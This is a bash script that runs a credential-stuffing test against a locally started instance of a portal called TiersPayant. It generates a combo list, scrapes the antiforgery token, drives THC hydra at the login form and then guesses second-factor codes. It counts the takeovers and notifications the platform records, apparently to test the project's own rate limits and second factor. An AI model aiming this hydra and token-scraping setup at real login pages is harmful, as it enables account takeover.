#!/usr/bin/env bash
# Credential stuffing with a real tool (THC hydra, Debian package `hydra`) against the portal's
# login form, on this machine only (127.0.0.1). The platform runs on a fresh data folder with
# PRACTICES demo accounts; the combo list holds TOTAL login:password pairs of which every demo
# account's real password once. Prints what hydra claims and what the platform recorded:
# a "found" password is one that reached the second-factor step; a takeover is an open session.
# MODE `single` (default) runs with the platform's settings: every attempt comes from one address,
# which the per-address limits stop early. MODE `distributed` lifts the per-address limits, as if
# each attempt came from an address of its own (a botnet): what stands is the per-account delay
# and the second factor. After hydra, every password it found is tried once more with a guessed
# code, as an attacker at the second step would, so the platform's notices can be counted.
# Usage: scripts/credential-stuffing.sh [TOTAL] [PRACTICES] [PORT] [MODE]
set -euo pipefail
total=${1:-5000}; practices=${2:-50}; port=${3:-5097}; mode=${4:-single}
case "$mode" in
  single) limits=() ;;
  distributed) limits=(--Accounts:Login:PerAddressPerMinute=1000000 --Accounts:Login:AddressFailuresPerWindow=1000000) ;;
  *) echo "MODE: single or distributed" >&2; exit 2 ;;
esac
cd "$(dirname "$0")/.."
command -v hydra >/dev/null || { echo "needs hydra: apt-get install -y hydra" >&2; exit 2; }
work=$(mktemp -d)
dotnet build -c Release src/TiersPayant >/dev/null
dotnet run -c Release --no-build --project src/TiersPayant -- --data "$work/data" --urls "http://127.0.0.1:$port" \
  --Demo:Practices="$practices" --Demo:Beneficiaries=500 --Logging:LogLevel:Default=Warning "${limits[@]}" >"$work/server.log" 2>&1 &
server=$!
trap 'kill $server 2>/dev/null || true; wait $server 2>/dev/null || true' EXIT
for _ in $(seq 60); do curl -fs "http://127.0.0.1:$port/health" >/dev/null && break; sleep 1; done

python3 - "$work" "$total" <<'PY'
import json, random, sys
work, total = sys.argv[1], int(sys.argv[2])
accounts = json.load(open(f"{work}/data/demo-credentials.json"))["portalAccounts"]
rng = random.Random(7)
combos = [(a["login"], a["password"]) for a in accounts]
common = ["123456789012", "motdepasse2024", "azertyuiop123", "Soleil2025!!", "pharmacie1234", "password1234"]
while len(combos) < total:
    login = rng.choice(accounts)["login"] if rng.random() < 0.5 else f"utilisateur{rng.randrange(100000)}"
    combos.append((login, rng.choice(common) + str(rng.randrange(1000))))
rng.shuffle(combos)
open(f"{work}/combos.txt", "w").write("".join(f"{l}:{p}\n" for l, p in combos))
PY

# One antiforgery token and its cookie, fetched once, as a scripted attacker would.
page=$(curl -s -c "$work/jar" "http://127.0.0.1:$port/connexion")
token=$(printf '%s' "$page" | sed -n 's/.*name="__RequestVerificationToken" type="hidden" value="\([^"]*\)".*/\1/p' | head -1)
cookie=$(awk '$6 ~ /Antiforgery/ {print $6 "=" $7}' "$work/jar")

start=$(date +%s)
hydra -C "$work/combos.txt" -t 16 -s "$port" -o "$work/hydra.out" 127.0.0.1 http-post-form \
  "/connexion:login=^USER^&password=^PASS^&__RequestVerificationToken=$token:2=:g=:H=Cookie\: $cookie:S=second-facteur" \
  >"$work/hydra.log" 2>&1 || true
echo "hydra: $(grep -c 'login:' "$work/hydra.out" || true) passwords reported found in $(( $(date +%s) - start )) s; last lines:"
tail -3 "$work/hydra.log"

# The second step for each password found: a guessed code (a real attacker has no authenticator).
{ grep -o 'login: [^ ]*   password: .*' "$work/hydra.out" 2>/dev/null || true; } | while read -r _ login _ password; do
  jar="$work/jar-$login"
  t=$(curl -s -c "$jar" "http://127.0.0.1:$port/connexion" | sed -n 's/.*name="__RequestVerificationToken" type="hidden" value="\([^"]*\)".*/\1/p' | head -1)
  curl -s -b "$jar" -c "$jar" -o /dev/null --data-urlencode "login=$login" --data-urlencode "password=$password" \
    --data-urlencode "__RequestVerificationToken=$t" "http://127.0.0.1:$port/connexion"
  t=$(curl -s -b "$jar" -c "$jar" "http://127.0.0.1:$port/connexion/second-facteur" | sed -n 's/.*name="__RequestVerificationToken" type="hidden" value="\([^"]*\)".*/\1/p' | head -1)
  curl -s -b "$jar" -c "$jar" -o /dev/null -w "second factor for $login: HTTP %{http_code}\n" --data-urlencode "code=$(printf '%06d' $((RANDOM % 1000000)))" \
    --data-urlencode "__RequestVerificationToken=$t" "http://127.0.0.1:$port/connexion/second-facteur"
done | sed 's/.*: HTTP/second step with a guessed code: HTTP/' | sort | uniq -c
sqlite3 "$work/data/tierspayant.db" \
  "select 'sessions opened (takeovers): ' || count(*) from sessions;
   select 'accounts with failures counted: ' || count(*) || ', failures: ' || coalesce(sum(access_failed_count),0) from asp_net_users where access_failed_count > 0;
   select 'address failure windows: ' || count(*) || ', failures: ' || coalesce(sum(failures),0) from address_failures;
   select 'notifications queued: ' || count(*) || ' (' || coalesce(group_concat(distinct kind),'') || ')' from notifications;"
echo "work folder: $work"
